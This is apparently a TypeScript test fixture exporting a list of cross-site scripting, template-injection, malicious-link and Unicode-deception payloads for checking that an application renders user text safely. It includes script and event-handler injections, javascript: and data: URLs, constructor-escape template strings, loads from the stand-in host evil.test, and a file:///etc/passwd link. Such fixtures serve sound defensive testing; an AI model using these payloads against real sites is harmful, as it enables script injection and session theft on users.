/**
 * Texts that try to be more than text. What runs calls `alert`, leaves its number in `trialHits`, or asks an address
 * under `.test`; the trial watches all three.
 */

const RUN = 'alert(1)';
const HIT = "(window.trialHits||=[]).push('x')";

/** Markup that runs where text is put into a document as markup. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script src=http://evil.test/x.js></script>`,
  `<script src=//evil.test/x.js></script>`,
  `<script type=module>${HIT}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\t>${RUN}</script\t>`,
  `<script/x>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<math><mtext></p><img src=x onerror=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="data:text/html,<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="http://evil.test/">`,
  `<meta http-equiv=refresh content="0;url=http://evil.test/">`,
  `<link rel=stylesheet href=http://evil.test/x.css>`,
  `<style>@import 'http://evil.test/x.css';</style>`,
  `<form action="javascript:${RUN}"><input type=submit></form>`,
  `<button form=x formaction="javascript:${RUN}">x</button>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="&#106;avascript:${RUN}">click</a>`,
  `<a href="java\tscript:${RUN}">click</a>`,
  `<a href="\u0001javascript:${RUN}">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
  `<img src="http://evil.test/pixel.gif">`,
  `<img src=x:x onerror=${HIT}>`,
  `<img srcset="http://evil.test/x 1x">`,
  `<picture><source srcset=http://evil.test/x><img></picture>`,
  `<video poster=http://evil.test/x.png>`,
  `<div style="background:url(http://evil.test/x)">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<xss id=x tabindex=1 style="animation:x" onanimationstart=${RUN}>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
  `<portal src=http://evil.test></portal>`,
  `<frameset onload=${RUN}></frameset>`,
  `<plaintext>x`,
];

const TAGS: [tag: string, event: string][] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['keygen autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['object data=x', 'onerror'],
  ['iframe src=x', 'onload'],
  ['div contenteditable autofocus', 'onfocus'],
  ['p style=animation:x', 'onanimationend'],
  ['a href=x autofocus', 'onfocusin'],
  ['img src=x', 'OnErRoR'],
  ['button autofocus', 'onfocus'],
];
const EVENTS = TAGS.flatMap(([tag, event]) => [`<${tag} ${event}=${RUN}>`, `"><${tag} ${event}="${HIT}">`]);

/** Templates of other kinds, in case one of them is ever evaluated. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{_c.constructor('${RUN}')()}}`,
  `{{$el.ownerDocument.defaultView.alert(1)}}`,
  `{{7*7}}`,
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '{%if 1%}x{%endif%}',
  '[[alert(1)]]',
  `{name}`,
  `{n} | {n}`,
  `@:conversation.title`,
  `%{n}`,
  `<div v-html="'<img src=x onerror=${RUN}>'">`,
  `<component :is="'script'">${RUN}</component>`,
  `<div @click="${RUN}" :onerror="${RUN}">x</div>`,
];

/** Links, and the formatting of messages, turned against the reader. */
const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\u200bscript:${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:http://evil.test/1`,
  `[click](javascript:${RUN})`,
  `[click](data:text/html;base64,PHNjcmlwdD4=)`,
  `![x](http://evil.test/pixel.gif)`,
  `![x](x"onerror="${RUN})`,
  `<javascript:${RUN}>`,
  `https://example.org"onmouseover="${RUN}`,
  `https://example.org/?q=<script>${RUN}</script>`,
  `https://user:password@example.org/`,
  `https://ex\u0430mple.org/ (a Cyrillic letter)`,
  `https://example.org\u202egpj.exe`,
  `**<img src=x onerror=${RUN}>**`,
  `_<svg onload=${RUN}>_`,
  `\`<script>${RUN}</script>\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `> <img src=x onerror=${RUN}>`,
  `**_\`**_\`**_\``,
  `${'*'.repeat(200)}x${'*'.repeat(200)}`,
  `${'> '.repeat(200)}x`,
  `${'`'.repeat(301)}`,
  `mailto:x@example.org?body=<script>${RUN}</script>`,
];

/** Letters that deceive or exhaust. */
const LETTERS = [
  `\u202ereversed ${RUN}`,
  `\u2066\u2067\u2068${'\u202b'.repeat(20)}deep`,
  `مرحبا <b>${RUN}</b> שלום`,
  `${'\u200d'.repeat(500)}joined`,
  `x${'\u0301'.repeat(400)}`,
  `👨‍👩‍👧‍👦${'\u200d👩'.repeat(200)}`,
  '👍🏽'.repeat(300),
  '\u{e0001}\u{e0041}\u{e007f} tags',
  '＜script＞alert(1)＜/script＞',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  'раураl.example (Cyrillic)',
  'W'.repeat(1000),
  `${'ظ'.repeat(300)}`,
  '\ufeff\u2028line\u2029separators',
];

/** Everything, each once. */
export const PAYLOADS: readonly string[] = [...new Set([...MARKUP, ...EVENTS, ...TEMPLATES, ...LINKS, ...LETTERS])];

/** Those that a server takes as somebody's first name. */
export const SHORT_PAYLOADS: readonly string[] = PAYLOADS.filter(
  (payload) => [...payload].length <= 50 && !/[\n\t\u0001\u2028-\u202f\u2066-\u2069]/.test(payload),
).slice(0, 40);
